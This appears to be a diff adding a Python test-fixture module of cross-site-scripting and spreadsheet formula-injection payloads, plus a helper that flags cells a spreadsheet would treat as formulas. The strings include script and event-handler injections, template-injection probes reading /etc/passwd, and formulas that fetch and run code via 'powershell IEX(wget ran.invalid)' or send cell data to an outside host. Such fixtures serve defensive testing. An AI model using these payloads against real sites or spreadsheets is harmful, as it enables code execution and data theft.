@@ -1,0 +1,123 @@
+# SPDX-FileCopyrightText: 2026 The childwell authors
+# SPDX-License-Identifier: Apache-2.0
+"""Texts that a page would run and a spreadsheet would reckon, to be planted wherever data bring text.
+
+A markup payload that runs calls `ran(...)`, opens a dialog, asks for `ran.invalid` or leaves the page.
+"""
+
+MARKUP = [
+    # Elements that run at once
+    "<script>ran(1)</script>",
+    "<ScRiPt>ran(1)</sCrIpT>",
+    "<script src=//ran.invalid/x.js></script>",
+    "<script\n>ran(1)</script\n>",
+    "<img src=x onerror=ran(1)>",
+    "<img/src=x/onerror=ran(1)//",
+    "<IMG SRC=x OnErRoR=&#114;an(1)>",
+    "<svg onload=ran(1)>",
+    "<svg><script>ran(1)</script></svg>",
+    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
+    "<svg><set onbegin=ran(1) attributeName=x dur=1s>",
+    "<body onload=ran(1)>",
+    "<input autofocus onfocus=ran(1)>",
+    "<details open ontoggle=ran(1)><summary>x</summary></details>",
+    "<video><source onerror=ran(1)></video>",
+    "<audio src=x onerror=ran(1)></audio>",
+    "<iframe srcdoc=\"<script>parent.ran(1)</script>\"></iframe>",
+    "<iframe src=javascript:parent.ran(1)></iframe>",
+    "<object data=//ran.invalid/x></object>",
+    "<embed src=//ran.invalid/x>",
+    "<marquee onstart=ran(1)>x</marquee>",
+    "<style>@import '//ran.invalid/x.css';</style>",
+    "<style>*{animation:a}@keyframes a{}</style><x onanimationstart=ran(1)>",
+    "<link rel=stylesheet href=//ran.invalid/x.css>",
+    "<meta http-equiv=refresh content=\"0;url=//ran.invalid/\">",
+    "<base href=//ran.invalid/>",
+    "<form action=//ran.invalid/><input type=submit autofocus></form>",
+    "<a href=javascript:ran(1)>x</a>",
+    "<math><a xlink:href=javascript:ran(1)>x</a></math>",
+    "<template><script>ran(1)</script></template><img src=x onerror=ran(1)>",
+    # Out of an attribute
+    "\"><script>ran(1)</script>",
+    "'><script>ran(1)</script>",
+    "\" onmouseover=ran(1) autofocus onfocus=ran(1) tabindex=0 x=\"",
+    "' onfocus=ran(1) autofocus tabindex=0 x='",
+    "x onfocus=ran(1) autofocus tabindex=0",
+    "\"><img src=x onerror=ran(1)>",
+    "`><img src=x onerror=ran(1)>",
+    "\" style=\"background:url(//ran.invalid/x)",
+    "javascript:ran(1)",
+    "data:text/html,<script>ran(1)</script>",
+    # Out of an element whose text is no markup
+    "</title><script>ran(1)</script>",
+    "</style><script>ran(1)</script>",
+    "</textarea><img src=x onerror=ran(1)>",
+    "</script><script>ran(1)</script>",
+    "</desc></title></svg><img src=x onerror=ran(1)>",
+    "--><script>ran(1)</script><!--",
+    "<!--><img src=x onerror=ran(1)>-->",
+    "]]><script>ran(1)</script>",
+    "<![CDATA[<script>ran(1)</script>]]>",
+    "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\">",
+    # Texts that a template or a careless decoder would turn into the above
+    "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}",
+    "{% include '/etc/passwd' %}{% raw %}",
+    "{0.__class__} {parent} ${ran(1)} #{ran(1)}",
+    "&lt;script&gt;ran(1)&lt;/script&gt;",
+    "&#60;script&#62;ran(1)&#60;/script&#62;",
+    "%3Cscript%3Eran(1)%3C/script%3E",
+    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
+    "＜script＞ran(1)＜/script＞",
+    "\u202e<script>ran(1)</script>\u202c\x00\x1b[31m",
+    "<scr\x00ipt>ran(1)</scr\u200bipt><x\x0conclick=ran(1)>",
+]  # fmt: skip
+
+SPREADSHEET = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=CMD|'/C powershell IEX(wget ran.invalid)'!'A1'",
+    "=HYPERLINK(\"http://ran.invalid/?x=\"&A1,\"open\")",
+    "=IMPORTXML(\"http://ran.invalid\",\"//a\")",
+    "=IMPORTDATA(\"http://ran.invalid\")",
+    "=WEBSERVICE(\"http://ran.invalid/\"&A2)",
+    "=IMAGE(\"http://ran.invalid/x.png\")",
+    "=INDIRECT(\"Sheet2!A1\")",
+    "='file:///etc/passwd'#$passwd.A1",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=SUM(1,1)*cmd|'/C calc'!A0",
+    "==1+1",
+    "+1+1",
+    "+cmd|'/C calc'!A0",
+    "+HYPERLINK(\"http://ran.invalid\")",
+    "-1+1",
+    "-2+3+cmd|'/C calc'!A0",
+    "-HYPERLINK(\"http://ran.invalid\")",
+    "@SUM(1+1)",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u3000=1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    "|calc",
+    "%0A=1+1",
+    "x\",=1+1,\"",
+    "x\n=1+1",
+    "x;=1+1",
+    "\"=1+1\"",
+]  # fmt: skip
+
+_BLANK = " \t\r\n\u3000\u00a0\ufeff\u200b"
+
+
+def starts_a_formula(text: str) -> bool:
+    """Whether a spreadsheet may take a cell of this text for a formula; some drop what is blank before they look."""
+    return text.lstrip(_BLANK)[:1] in tuple("=+-@|＝＋－＠") or text[:1] in tuple("\t\r\n")
